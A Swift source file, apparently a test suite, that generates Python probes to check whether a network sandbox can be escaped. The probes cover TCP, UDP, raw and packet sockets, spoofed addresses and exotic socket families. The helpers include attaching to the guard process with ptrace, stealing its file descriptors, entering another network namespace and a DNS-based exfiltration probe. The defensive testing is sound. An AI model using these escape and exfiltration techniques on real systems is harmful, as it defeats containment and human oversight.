/// What becomes of a program's attempt to reach something past the recording, as the program sees it.
enum WayOutcome: String {
  /// The kernel says no, to the call or by a message.
  case refused
  /// A server of the outer network answers: the log must have an entry for it.
  case answered
  /// Nobody says anything.
  case silent
  /// The look that was taken found nothing of ours.
  case nothing
}

/// Attempts, each in a process of its own. `script` is the body of a function in Python whose result is a `WayOutcome`: an error
/// of a system call is `refused`, a wait that is too long `silent`. The helpers are `WaysOut.helpers`.
struct WayOut {
  let name: String
  /// The first is what an administrator sees. An ordinary user lacks some privileges, and some kernels lack some sockets.
  let outcomes: [WayOutcome]
  let script: String

  init(_ name: String, _ outcomes: WayOutcome..., by script: String) {
    (self.name, self.outcomes, self.script) = (name, outcomes, script)
  }
}

enum WaysOut {
  static var all: [WayOut] { connections + datagrams + packets + families + privileges + processes }

  static let helpers = """
    import ctypes, errno, fcntl, glob, mmap, os, signal, socket, struct, sys
    port, abstract = int(sys.argv[1]), sys.argv[2]
    libc = ctypes.CDLL(None, use_errno=True)
    ours = os.getppid()
    given = {int(n): os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{n}")}
    sent = {"connections": 0, "questions": 0, "datagrams": 0, "pings": 0, "groups": 0}
    NEWNET, NEWUSER = 0x40000000, 0x10000000

    def checked(result):
        if result < 0:
            raise OSError(ctypes.get_errno(), "")
        return result

    def fetch(s, address, name, count=1):
        sent["connections"] += count
        s.settimeout(10)
        s.connect(address)
        s.sendall(f"GET /{name} HTTP/1.1\\r\\nHost: o.example\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return "answered" if b"the answer" in s.makefile("rb").read() else "silent"

    def tcp(host, name, *options, port=port, before=None):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        for option in options:
            s.setsockopt(*option)
        if before:
            s.bind(before)
        return fetch(s, (host, port), name)

    def udp(host, port=9999, data=b"x", kind="datagrams", protocol=0, options=(), wait=10, count=1):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, protocol)
        for option in options:
            s.setsockopt(*option)
        s.settimeout(wait)
        if kind != "groups":
            s.connect((host, port))
        s.sendto(data, (host, port)) if kind == "groups" else s.send(data)
        sent[kind] += count
        s.recv(512) if kind != "groups" else None
        return "answered" if kind != "groups" else "silent"

    def question(name, kind=16):
        labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
        return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack("!HH", kind, 1)

    def header(protocol, body, to="192.0.2.9"):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, bytes(4), socket.inet_aton(to)) + body

    def datagram(to=9999):
        return struct.pack("!HHHH", 9, to, 9, 0) + b"x"

    def raw(protocol, data, host="192.0.2.9", kind=None):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_RAW, protocol)
        s.sendto(data, (host, 0))
        if kind:
            sent[kind] += 1
        return "silent"

    def family(number, kind, address=None, protocol=0):
        s = socket.socket(number, kind, protocol)
        s.settimeout(2)
        s.connect(address) if address else None
        return "silent"

    def netlink(protocol, kind, body, flags=5):
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        s.settimeout(5)
        s.sendall(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        code = struct.unpack_from("=i", s.recv(65536), 16)[0]
        if code < 0:
            raise OSError(-code, "")
        return "answered"

    def enter(file, kind=NEWNET):
        checked(libc.setns(file, kind))
        return outside()

    def outside():
        # Without a network there is no way to the server.
        s = socket.socket()
        s.settimeout(5)
        s.connect(("192.0.2.9", port))
        return "answered"

    def guardian():
        for path in glob.glob("/proc/[0-9]*/comm"):
            with open(path) as file:
                if file.read() == "network-guard\\n" and os.readlink(os.path.dirname(path) + "/ns/net") == os.readlink("/proc/self/ns/net"):
                    return int(path.split("/")[2])
        raise OSError(errno.ESRCH, "")

    def trace(process):
        checked(libc.ptrace(16, process, 0, 0))
        libc.ptrace(17, process, 0, 0)
        return "answered"

    def read(path):
        os.close(os.open(path, os.O_RDONLY))
        return "answered"

    def taken(process):
        other = os.pidfd_open(process)
        for number in range(64):
            try:
                checked(libc.syscall(438, other, number, 0))
                return "answered"
            except OSError as error:
                if error.errno != errno.EBADF:
                    raise
        return "silent"

    def attempt(name, way):
        end, begin = os.pipe()
        child = os.fork()
        if child == 0:
            sent.update(dict.fromkeys(sent, 0))
            signal.alarm(30)
            try:
                outcome = way(name)
            except TimeoutError:
                outcome = "silent"
            except OSError as error:
                outcome = "refused " + errno.errorcode.get(error.errno, str(error))
            except Exception as error:
                outcome = repr(error)
            os.write(begin, (outcome + "|" + " ".join(map(str, sent.values()))).encode())
            os._exit(0)
        os.close(begin)
        with os.fdopen(end) as file:
            outcome, _, counts = (file.read() or "ended|0 0 0 0 0").partition("|")
        os.waitpid(child, 0)
        for kind, count in zip(sent, counts.split()):
            sent[kind] += int(count)
        print(f"{name}: {outcome}", flush=True)
    """

  /// The program that tries them all.
  static var program: String {
    let ways = all.enumerated().map { number, way in
      "def way_\(number)(name):\n" + way.script.split(separator: "\n").map { "    \($0)\n" }.joined()
        + "attempt(\"\(way.name)\", way_\(number))\n"
    }
    return helpers + "\n" + ways.joined() + "print(\"tally\", *sent.values())\n"
  }

  // MARK: Connections

  private static let connections = [
    WayOut("TCP-to-loopback", .answered, by: #"return tcp("127.0.0.1", name)"#),
    WayOut("TCP-to-another-machine", .answered, by: #"return tcp("192.0.2.9", name)"#),
    WayOut("TCP-to-a-private-address", .answered, by: #"return tcp("10.1.2.3", name)"#),
    WayOut("TCP-by-IPv6", .answered, by: #"return tcp("2001:db8::9", name)"#),
    WayOut("TCP-to-a-local-IPv6-address", .answered, by: #"return tcp("fd00::9", name)"#),
    WayOut("TCP-to-a-mapped-address", .answered, by: #"return tcp("::ffff:192.0.2.9", name)"#),
    WayOut("TCP-to-the-port-of-names", .answered, by: #"return tcp("192.0.2.9", name, port=53)"#),
    WayOut("TCP-to-the-port-of-names-by-IPv6", .answered, by: #"return tcp("2001:db8::9", name, port=53)"#),
    WayOut("TCP-to-DNS-over-TLS", .answered, by: #"return tcp("192.0.2.9", name, port=853)"#),
    WayOut("TCP-to-a-closed-port", .refused, by: #"return tcp("192.0.2.9", name, port=1)"#),
    WayOut("TCP-to-a-closed-port-by-IPv6", .refused, by: #"return tcp("2001:db8::9", name, port=1)"#),
    WayOut("TCP-to-a-group", .refused, by: #"return fetch(socket.socket(), ("224.0.0.1", port), name, 0)"#),
    WayOut("TCP-to-everybody", .refused, by: #"return fetch(socket.socket(), ("255.255.255.255", port), name, 0)"#),
    WayOut(
      "TCP-fast-open", .answered,
      by: """
        sent["connections"] += 1
        s = socket.socket()
        s.sendto(b"GET /TCP-fast-open HTTP/1.1\\r\\nHost: o.example\\r\\n", socket.MSG_FASTOPEN, ("192.0.2.9", port))
        s.sendall(b"Connection: close\\r\\n\\r\\n")
        return "answered" if b"the answer" in s.makefile("rb").read() else "silent"
        """),
    WayOut(
      "multipath-TCP", .answered, .refused,
      by: #"return fetch(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), ("192.0.2.9", port), name)"#),
    WayOut(
      "TCP-bound-to-a-device", .answered,
      by: #"return tcp("192.0.2.9", name, (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo"))"#),
    WayOut("TCP-from-another-address", .answered, by: #"return tcp("192.0.2.9", name, before=("127.9.9.9", 0))"#),
    WayOut(
      "TCP-from-an-address-of-others", .answered, .refused,
      by: #"return tcp("192.0.2.9", name, (socket.IPPROTO_IP, 19, 1), before=("198.51.100.77", 0))"#),
    WayOut("TCP-with-the-first-mark", .answered, .refused, by: #"return tcp("192.0.2.9", name, (1, 36, 1))"#),
    WayOut("TCP-with-every-mark", .answered, .refused, by: #"return tcp("192.0.2.9", name, (1, 36, bytes([255] * 4)))"#),
    WayOut(
      "TCP-by-a-named-route", .answered, .refused, .silent,
      by: #"return tcp("192.0.2.9", name, (0, 4, bytes([131, 7, 4]) + socket.inet_aton("198.51.100.1") + b"\1"))"#),
    WayOut("TCP-beside-all-routes", .answered, .refused, by: #"return tcp("192.0.2.9", name, (1, 5, 1))"#),
    WayOut(
      "TCP-by-io_uring", .answered, .refused,
      by: """
        parameters = bytearray(120)
        ring = checked(libc.syscall(425, 4, (ctypes.c_char * 120).from_buffer(parameters)))
        sq, cq = parameters[40:80], parameters[80:120]
        tail, array = struct.unpack_from("=I", sq, 4)[0], struct.unpack_from("=I", sq, 24)[0]
        cqes = struct.unpack_from("=I", cq, 20)[0]
        rings = mmap.mmap(ring, 4096, offset=0)
        completed = mmap.mmap(ring, 4096, offset=0x8000000) if not struct.unpack_from("=I", parameters, 20)[0] & 1 else rings
        entries = mmap.mmap(ring, 4096, offset=0x10000000)
        s = socket.socket()
        address = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton("192.0.2.9") + bytes(8), 16)
        struct.pack_into("=BBHiQQ", entries, 0, 16, 0, 0, s.fileno(), 16, ctypes.addressof(address))
        struct.pack_into("=I", rings, array, 0)
        struct.pack_into("=I", rings, tail, 1)
        sent["connections"] += 1
        checked(libc.syscall(426, ring, 1, 1, 1, None, 0))
        code = struct.unpack_from("=i", completed, cqes + 8)[0]
        if code < 0:
            raise OSError(-code, "")
        s.sendall(b"GET /TCP-by-io_uring HTTP/1.1\\r\\nHost: o.example\\r\\nConnection: close\\r\\n\\r\\n")
        return "answered" if b"the answer" in s.makefile("rb").read() else "silent"
        """),
    WayOut(
      "TCP-to-the-listener-of-ours", .refused, .silent, .nothing,
      by: """
        with open("/proc/net/tcp") as file:
            rows = [line.split() for line in file][1:]
        listening = [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"]
        if not listening:
            return "nothing"
        return tcp("127.0.0.1", name, port=listening[0])
        """),
    WayOut("TCP-in-repair", .refused, by: #"return tcp("192.0.2.9", name, (socket.IPPROTO_TCP, 19, 1))"#),
    WayOut(
      "TCP-by-a-socket-that-was-inherited", .answered,
      by: """
        s = socket.socket(fileno=int(sys.argv[3]))
        s.sendall(b"GET /inherited HTTP/1.1\\r\\nHost: o.example\\r\\nConnection: close\\r\\n\\r\\n")
        return "answered" if b"the answer" in s.makefile("rb").read() else "silent"
        """),
  ]

  // MARK: Datagrams

  private static let datagrams = [
    WayOut("UDP", .refused, by: #"return udp("192.0.2.9")"#),
    WayOut("UDP-to-loopback", .refused, by: #"return udp("127.0.0.1", port)"#),
    WayOut("UDP-by-IPv6", .refused, by: #"return udp("2001:db8::9")"#),
    WayOut("UDP-to-a-mapped-address", .refused, by: #"return udp("::ffff:192.0.2.9")"#),
    WayOut("UDP-of-HTTP/3", .refused, by: #"return udp("192.0.2.9", 443, b"\xc0" + bytes(1199))"#),
    WayOut("UDP-of-DNS-over-QUIC", .refused, by: #"return udp("2001:db8::9", 853)"#),
    WayOut("UDP-in-segments", .refused, by: #"return udp("192.0.2.9", data=bytes(64), options=[(17, 103, 32)])"#),
    WayOut("UDP-Lite", .refused, by: #"return udp("192.0.2.9", protocol=136)"#),
    WayOut("UDP-in-fragments", .refused, by: #"return udp("192.0.2.9", data=bytes(60000), options=[(0, 10, 0)])"#),
    WayOut(
      "UDP-with-a-mark", .refused, by: #"return udp("192.0.2.9", options=[(1, 36, 1)])"#),
    WayOut(
      "UDP-from-an-address-of-others", .refused,
      by: """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(0, 19, 1)
        s.bind(("198.51.100.77", 0))
        s.settimeout(5)
        s.connect(("192.0.2.9", 9999))
        s.send(b"x")
        sent["datagrams"] += 1
        s.recv(1)
        return "answered"
        """),
    WayOut("names-that-are-none", .silent, by: #"return udp("192.0.2.9", 53, b"GET /secret", wait=0.3)"#),
    WayOut("names-that-are-none-by-IPv6", .silent, by: #"return udp("2001:db8::9", 53, b"GET /secret", wait=0.3)"#),
    WayOut("names-with-something-behind", .silent, by: #"return udp("192.0.2.9", 53, question("a.example") + b"x", wait=0.3)"#),
    WayOut(
      "names-that-are-answers", .silent,
      by: #"return udp("192.0.2.9", 53, question("a.example")[:2] + b"\x81\x80" + question("a.example")[4:], wait=0.3)"#),
    WayOut(
      "names-for-a-multicast-server", .silent, by: #"return udp("224.0.0.251", 53, question("a.example"), kind="groups")"#),
    WayOut(
      "a-name-that-carries-something", .answered,
      by: #"return udp("198.51.100.7", 53, question("stolen.example"), kind="questions")"#),
    WayOut("multicast", .silent, by: #"return udp("239.1.2.3", 5353, kind="groups")"#),
    WayOut("multicast-DNS", .silent, by: #"return udp("224.0.0.251", 5353, question("a.local"), kind="groups")"#),
    WayOut("multicast-by-IPv6", .silent, .refused, by: #"return udp("ff02::fb%lo", 5353, kind="groups")"#),
    WayOut("broadcast", .silent, by: #"return udp("255.255.255.255", 9, kind="groups", options=[(1, 6, 1)])"#),
    WayOut(
      "multicast-by-a-named-device", .silent,
      by: #"return udp("239.1.2.4", 5353, kind="groups", options=[(0, 32, socket.inet_aton("127.0.0.1"))])"#),
    WayOut(
      "ping", .silent, .refused,
      by: """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("192.0.2.9", 0))
        sent["pings"] += 1
        return "silent"
        """),
    WayOut(
      "ping-by-IPv6", .silent, .refused,
      by: """
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
        s.sendto(b"\\x80\\0\\0\\0\\0\\0\\0\\0", ("2001:db8::9", 0))
        sent["pings"] += 1
        return "silent"
        """),
  ]

  // MARK: Packets that are made by hand

  private static let packets = [
    WayOut("raw-ping", .silent, .refused, by: #"return raw(1, b"\x08\0\xf7\xff\0\0\0\0", kind="pings")"#),
    WayOut(
      "raw-ping-by-IPv6", .silent, .refused, by: #"return raw(58, b"\x80\0\0\0\0\0\0\0", "2001:db8::9", kind="pings")"#),
    WayOut("raw-UDP", .silent, .refused, by: #"return raw(255, header(17, datagram()), kind="datagrams")"#),
    WayOut("raw-UDP-by-IPv6", .silent, .refused, by: #"return raw(17, datagram(), "2001:db8::9")"#),
    WayOut("raw-names-that-are-none", .silent, .refused, by: #"return raw(255, header(17, datagram(53)), kind="datagrams")"#),
    WayOut("raw-SCTP", .silent, .refused, by: #"return raw(132, bytes(16))"#),
    WayOut("raw-DCCP", .silent, .refused, by: #"return raw(33, bytes(16))"#),
    WayOut("raw-GRE", .silent, .refused, by: #"return raw(47, b"\0\0\x08\0" + header(17, datagram()))"#),
    WayOut("raw-IP-in-IP", .silent, .refused, by: #"return raw(4, header(17, datagram()))"#),
    WayOut("raw-IPv6-in-IP", .silent, .refused, by: #"return raw(41, bytes(40))"#),
    WayOut("raw-ESP", .silent, .refused, by: #"return raw(50, bytes(16))"#),
    WayOut("raw-IGMP", .silent, .refused, by: #"return raw(2, b"\x16\0\x09\xfb\xe0\0\0\xfb", "224.0.0.251", "groups")"#),
    WayOut("raw-experiment", .silent, .refused, by: #"return raw(253, b"secret")"#),
    WayOut(
      "packet-socket", .silent, .refused,
      by: """
        s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
        s.sendto(header(253, b"secret"), ("lo", 0x0800))
        return "silent"
        """),
    WayOut(
      "packet-socket-on-another-device", .refused,
      by: """
        for name in ("eth0", "ens5", "enp1s0", "wlan0"):
            try:
                socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).sendto(bytes(64), (name, 0x0800))
                return "answered"
            except OSError as error:
                last = error
        raise last
        """),
    WayOut(
      "another-interface", .nothing,
      by: #"return "nothing" if [n for _, n in socket.if_nameindex()] == ["lo"] else str(socket.if_nameindex())"#),
  ]

  // MARK: Other families of sockets

  private static let families = [
    WayOut("SCTP", .refused, .silent, by: #"return family(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.9", port), 132)"#),
    WayOut("SCTP-messages", .refused, .silent, by: #"return family(socket.AF_INET6, 5, ("2001:db8::9", port), 132)"#),
    WayOut("DCCP", .refused, .silent, by: #"return family(socket.AF_INET, 6, None, 33)"#),
    WayOut("SMC", .answered, .refused, by: #"return fetch(socket.socket(43, socket.SOCK_STREAM, 0), ("192.0.2.9", port), name)"#),
    WayOut("TIPC", .refused, .silent, by: "return family(30, 5)"),
    WayOut("Bluetooth", .refused, .silent, by: "return family(31, 3, None, 1)"),
    WayOut("CAN", .refused, by: #"s = socket.socket(29, 3, 1); s.bind(("can0",)); return "answered""#),
    WayOut("XDP", .refused, by: "s = socket.socket(44, 3, 0); s.setsockopt(283, 4, 64); return family(44, 3)"),
    WayOut("IPX", .refused, by: "return family(4, 2)"),
    WayOut("AppleTalk", .refused, by: "return family(5, 2)"),
    WayOut("X.25", .refused, by: "return family(9, 5)"),
    WayOut("PPP", .refused, .silent, by: "return family(24, 1, None, 0)"),
    WayOut("keys", .refused, .silent, by: "return family(15, 3, None, 2)"),
    WayOut("abstract-socket-outside", .refused, by: #"return family(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract)"#),
  ]
}
